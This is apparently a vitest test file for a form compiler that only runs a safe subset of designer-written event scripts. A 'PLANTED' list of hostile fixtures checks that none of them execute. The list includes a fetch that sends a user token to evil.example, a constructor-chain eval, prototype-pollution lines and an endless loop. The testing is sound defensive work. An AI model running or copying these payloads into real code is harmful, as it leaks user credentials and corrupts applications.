import { createFormStore } from '@milepost/kit/forms/store';
import type { RuleWords } from '@milepost/kit/forms/store';
import { formConfig } from '@milepost/openapi/domains/model';
import { readScript } from '@milepost/openapi/domains/design/rules';
import { expect, test, vi } from 'vitest';
import { compileForm } from './form.ts';

const control = (field: string, on: object = {}, jnpfKey = 'comInput', config: object = {}) => ({
  __vModel__: field,
  on,
  __config__: { jnpfKey, label: field, ...config },
});
const design = (fields: readonly object[], funcs: object = {}) => formConfig.decode({ fields, funcs } as never);

/** A form of a design, over a record; what its rules say is heard. */
function filledIn(fields: readonly object[], funcs: object = {}, record: object = {}) {
  const form = compileForm(design(fields, funcs));
  const store = createFormStore<Record<string, unknown>>(form.spec, record);
  const told = vi.fn<(words: RuleWords) => void>();
  store.subscribeRules(told);
  return { form, store, told };
}

test('a script at a change shows, requires and sets as its design means it', () => {
  const change = `({ data, formData, setRequired, setShowOrHide, setFormData }) => {
    // what lane it is decides
    const isFirst = data === 'lane1';
    setRequired('safety', isFirst);
    if (!isFirst && formData.people > 2) { setShowOrHide('note', false); } else setFormData('note', \`x\`);
  }`.replace('`x`', "'lane ' + data");
  const { form, store } = filledIn([control('lane', { change }), control('safety'), control('note'), control('people')], {}, { people: 3 });
  expect(form.rules.unread).toEqual([]);
  store.set('lane', 'lane1');
  expect(store.state('safety').isRequired).toBe(true);
  expect(store.value('note')).toBe('lane lane1');
  store.set('lane', 'lane2');
  expect(store.state('safety').isRequired).toBe(false);
  expect(store.state('note').isShown).toBe(false);
});

test.each<[string, string | null]>([
  ['`lane ${data} of ${formData.people + 1}`', 'lane a of 4'],
  ['`${data === "a" ? "first" : "other"}`', 'first'],
  ['`plain \\` and \\${text}` + "!"', 'plain ` and ${text}!'],
  ['`$5 ${data}`', '$5 a'],
  ['``', ''],
  ['`${alert(1)}`', null],
  ['`${`${data}`}`', null],
  ['`${data`', null],
  ['`${}`', null],
  ['alert`1`', null],
])('a template %s becomes %s', (template, text) => {
  const change = `({ data, formData, setFormData }) => { setFormData('note', ${template}); }`;
  const { form, store } = filledIn([control('lane', { change }), control('note'), control('people')], {}, { people: 3, note: 'before' });
  expect(form.rules.unread).toHaveLength(text === null ? 1 : 0);
  store.set('lane', 'a');
  expect(store.value('note')).toBe(text ?? 'before');
});

test('a loaded form begins as its rules have it, and a rule before saving may refuse', () => {
  const { store, told } = filledIn(
    [control('people'), control('budget')],
    {
      onLoad: "({ formData, setShowOrHide }) => { setShowOrHide('budget', formData.people > 0); }",
      beforeSubmit:
        "({ formData }) => { return new Promise((resolve, reject) => { if (formData.people > 200) { reject('Too many'); } else { resolve(); } }); }",
    },
    { people: 0 },
  );
  expect(store.state('budget').isShown).toBe(false);
  store.set('people', 201);
  expect(store.tryToSave()).toBe(false);
  expect(told).toHaveBeenCalledExactlyOnceWith({ kind: 'refused', text: 'Too many', tone: 'error' });
  store.set('people', 20);
  expect(store.tryToSave()).toBe(true);
});

test('rules that set each other off in a circle end, and values stay', () => {
  const sets = (field: string) => ({ change: `({ data, setFormData }) => { setFormData('${field}', data + 1); }` });
  const { store } = filledIn([control('a', sets('b')), control('b', sets('a'))], {}, { a: 0, b: 0 });
  store.set('a', 1);
  expect(Number(store.value('a'))).toBeGreaterThan(1);
  expect(Number(store.value('b'))).toBeLessThan(100);
});

test('formulas follow what a rule sets', () => {
  const fields = [
    control('a', { change: "({ data, setFormData }) => { setFormData('n', Number(data) * 2); }" }),
    control('n', {}, 'numInput'),
    { ...control('sum', {}, 'calculate'), expression: ['n', '+', '1'] },
  ];
  const { store } = filledIn(fields, {}, { a: '', n: 0, sum: 1 });
  store.set('a', '4');
  store.tryToSave();
  expect(store.snapshot()).toMatchObject({ n: 8, sum: 9 });
});

const PLANTED = [
  "({ onlineUtils }) => { fetch('https://evil.example/?' + onlineUtils.getUserInfo().token); }",
  'constructor.constructor("alert(1)")()',
  '() => { while (true) {} }',
  '(() => { globalThis.planted = true; })()',
  "({ formData }) => { formData['__proto__'].planted = true; }",
  "({ setFormData }) => { setFormData('a', window.planted = true); }",
  "({ setFormData }) => { setFormData('__proto__', 1); }",
  "({ formData, setFormData }) => { setFormData('a', formData.constructor); }",
  "({ setFormData }) => { setFormData('a', `${globalThis.planted = 1}`); }",
  "({ request }) => { request('/api/x'); }",
  'async ({ formData }) => { await formData; }',
  "({ setFormData }) => { setFormData('a', 1) /* ",
  `({ setFormData }) => { setFormData('a', ${'('.repeat(40)}1${')'.repeat(40)}); }`,
  `({ setFormData }) => { ${"setFormData('a', 1);".repeat(201)} }`,
  `({}) => { ${' '.repeat(4000)} }`,
  "({ setFormData }) => { setFormData('nobody', 1); }",
];

test.each(PLANTED)('a script outside of the subset is not run, wherever it is planted: %s', (script) => {
  const on = { change: script, blur: script, click: script, tabClick: script };
  const column = control('cell', on);
  const fields = [
    control('a', on),
    { ...control('t', on, 'table', { children: [column] }) },
    { on, __config__: { jnpfKey: 'card', label: 'card', children: [control('inside', on)] } },
  ];
  const { form, store } = filledIn(fields, { onLoad: script, beforeSubmit: script, afterSubmit: script }, { a: 'kept' });
  store.set('inside', 'x');
  store.set('a', 'typed');
  expect(store.tryToSave()).toBe(true);
  expect(store.value('a')).toBe('typed');
  expect(form.rules.rules).toEqual([]);
  expect(form.rules.isSaveUnread).toBe(true);
  // Three of the form, and four at each of the five controls.
  expect(form.rules.unread).toHaveLength(3 + 4 * 5);
  expect(Reflect.get(globalThis, 'planted')).toBeUndefined();
  expect(Reflect.get({}, 'planted')).toBeUndefined();
});

test.each(['', '  ', '// to be written', '({ formData, setFormData }) => {\n  // to be written\n\n}', '() => { /* none */ }'])(
  'a script that does nothing is none: %j',
  (script) => {
    expect(compileForm(design([control('a', { change: script, blur: script })], { onLoad: script })).rules).toEqual({
      rules: [],
      unread: [],
      isSaveUnread: false,
    });
  },
);

test.each<[string, unknown]>([
  ["data === 'x' ? 1 : 2", 1],
  ["formData['b'].length + 1", 4],
  ["formData.b.includes('b') && !false", true],
  ["Number('2') * 3 - -1", 7],
  ["formData.nothing ?? 'none'", 'none'],
  ['formData.nothing == null', true],
  ['7 % 4 > 2 || false', true],
])('%s is worked out', (text, value) => {
  const { store } = filledIn(
    [control('a', { change: `({ data, formData, setFormData }) => { setFormData('out', ${text}) }` }), control('b'), control('out')],
    {},
    { b: 'abc' },
  );
  store.set('a', 'x');
  expect(store.value('out')).toBe(value);
});

test('a text that is no script at all is not understood', () => {
  expect(readScript('{', { own: null, fields: new Set() })).toBeNull();
});
